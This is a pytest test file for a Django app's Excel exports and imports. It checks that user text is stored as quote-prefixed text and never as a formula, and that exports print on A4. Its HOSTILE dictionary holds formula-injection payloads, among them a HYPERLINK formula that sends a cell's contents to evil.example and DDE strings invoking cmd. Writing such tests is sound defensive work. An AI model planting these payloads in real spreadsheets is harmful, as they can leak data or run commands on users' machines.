"""No formulas in exports: every .xlsx the app writes keeps user text as text (lib/xlsx.py).

Each export is fetched as a user would, with hostile text in every kind of user field, and its
sheet XML is read directly: no ``<f>`` element anywhere, and the hostile text is there as text.
"""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from xieguan.employers.codelists import ensure_code_lists
from xieguan.employers.tests import xlsx as ledger_xlsx
from xieguan.indicators.tests.factories import InspectionFactory, answer_all, at, fubiao1_template
from xieguan.lib import xlsx
from xieguan.lib.tabular import Column, write_table
from xieguan.lib.testing import TOWNSHIP, EmployerFactory
from xieguan.personnel.tests.factories import AssistantFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "fullwidth": "＝1+1",
}


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert names, "not an .xlsx"
        return "".join(archive.read(n).decode() for n in names)


def texts(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row if v]


def assert_no_formulas(content: bytes, *expected: str) -> None:
    xml = sheet_xml(content)
    assert not re.search(r"<f[ >]", xml), "a formula in an export"
    values = texts(content)
    for text in expected:
        assert any(text.strip() in v for v in values), text


def hostile_book(header: list[str], rows: list[list[Any]]) -> bytes:
    """An uploaded workbook whose cells hold the hostile text as strings (as Excel stores them)."""
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.append(header)
    for values in rows:
        ws.append(values)
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- the helper --------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE.values())
def test_guard_keeps_risky_text_as_quote_prefixed_text(text):
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws["A1"] = text
    ws["A2"] = "普通文字"
    ws["A3"] = 42
    content = xlsx.to_bytes(book)
    assert "<f>" not in sheet_xml(content)
    again = load_workbook(io.BytesIO(content)).active
    assert again is not None
    assert again["A1"].value == text and again["A1"].data_type == "s" and again["A1"].quotePrefix
    assert again["A2"].value == "普通文字" and not again["A2"].quotePrefix
    assert again["A3"].value == 42


def test_streamed_table_guards_every_row():
    buffer = io.BytesIO()
    columns = [Column("a", "名称"), Column("b", "备注")]
    write_table(buffer, title=HOSTILE["eq"], columns=columns, rows=[[v, v] for v in HOSTILE.values()])
    assert_no_formulas(buffer.getvalue(), *HOSTILE.values())


# --- every export ------------------------------------------------------------------------


@pytest.fixture
def hostile(personas):
    ensure_code_lists()
    employer = EmployerFactory.create(
        name=HOSTILE["eq"],
        address=HOSTILE["plus"],
        legal_representative=HOSTILE["minus"],
        region_id=TOWNSHIP + "001",
    )
    inspection = InspectionFactory.create(
        template=fubiao1_template(),
        employer=employer,
        assistant=personas.xieguan,
        inspected_at=at(2025, 3, 5),
        address=HOSTILE["plus"],
    )
    answer_all(inspection, findings={3: HOSTILE["at"]})
    from xieguan.leads.tests.factories import make_lead

    make_lead(personas, employer=employer, description=HOSTILE["at"])
    assistant = AssistantFactory.create(name=HOSTILE["eq"], specialty=HOSTILE["minus"], user=personas.xieguan)
    return {"employer": employer, "inspection": inspection, "assistant": assistant}


def test_ledger_lead_register_and_roster_exports(client_for, hostile):
    client = client_for("panzhou")
    ledger = client.get(reverse("employers:export"))
    assert_no_formulas(b"".join(ledger.streaming_content), HOSTILE["eq"], HOSTILE["plus"], HOSTILE["minus"])
    register = client.get(reverse("leads:export"))
    assert_no_formulas(register.content, HOSTILE["at"])
    roster = client.get(reverse("personnel:export"))
    assert_no_formulas(b"".join(roster.streaming_content), HOSTILE["eq"], HOSTILE["minus"])


def test_official_forms_and_tables(client_for, personas, hostile):
    client = client_for("panzhou")
    fubiao2 = client.get(
        reverse("indicators:register_file", args=["xlsx"]), {"assistant": personas.xieguan.pk, "year": 2025}
    )
    assert_no_formulas(fubiao2.content, HOSTILE["at"].strip())
    for name in ("indicators:dashboard_xlsx", "funding:export"):
        response = client_for("sheng").get(reverse(name))
        assert response.status_code == 200, name
        content = b"".join(response.streaming_content) if response.streaming else response.content
        assert_no_formulas(content)
    for name in ("employers:import_template", "personnel:roster_template"):
        assert_no_formulas(client.get(reverse(name)).content)


def test_import_reports_repeat_uploaded_text_as_text(client_for, hostile):
    client = client_for("xieguan")
    rows = [ledger_xlsx.row(**{"用人单位名称": HOSTILE["eq"], "地址": HOSTILE["plus"], "劳动者人数": "=1+1"})]
    upload = SimpleUploadedFile("台账.xlsx", hostile_book(ledger_xlsx.HEADER, rows))
    response = client.post(reverse("employers:import"), {"file": upload})
    assert response.status_code == 302
    report = client.get(response["Location"] + "report.xlsx")
    assert report.status_code == 200
    assert_no_formulas(report.content, HOSTILE["eq"], HOSTILE["plus"], "=1+1")

    county = client_for("panzhou")
    header = ["姓名", "性别", "身份证号", "联系电话", "文化程度", "专业", "人员来源", "所在乡(镇、街道)"]
    roster_rows = [[HOSTILE["eq"], "女", "@12345", HOSTILE["minus"], "大专", HOSTILE["at"], "村医", "柏果镇"]]
    upload = SimpleUploadedFile("花名册.xlsx", hostile_book(header, roster_rows))
    response = county.post(reverse("personnel:roster_import"), {"file": upload})
    assert response.status_code == 200
    target = reverse("personnel:roster_report", args=[response.context["token"]])
    report = county.get(target)
    assert report.status_code == 200
    assert_no_formulas(report.content, HOSTILE["eq"], HOSTILE["at"], "@12345")


# --- every export prints on A4 (issue 15) -------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "user", "title_rows", "title_cols", "landscape"),
    [
        ("employers:export", "panzhou", "$2:$2", "$A:$A", True),
        ("leads:export", "panzhou", "$3:$3", None, True),
        ("indicators:dashboard_xlsx", "sheng", "$3:$4", "$A:$A", True),
        ("funding:export", "sheng", "$2:$2", "$A:$B", True),
    ],
)
def test_exports_have_an_a4_page_setup(client_for, hostile, url, user, title_rows, title_cols, landscape):
    response = client_for(user).get(reverse(url))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    setup = ws.page_setup
    assert setup.paperSize in (9, "9")
    assert setup.orientation == ("landscape" if landscape else "portrait")
    assert (setup.fitToWidth, setup.fitToHeight) in ((1, 0), ("1", "0"))
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert title_rows in (ws.print_title_rows or "")
    if title_cols:
        assert title_cols in (ws.print_title_cols or "")
    assert "&P" in (ws.oddFooter.center.text or "")
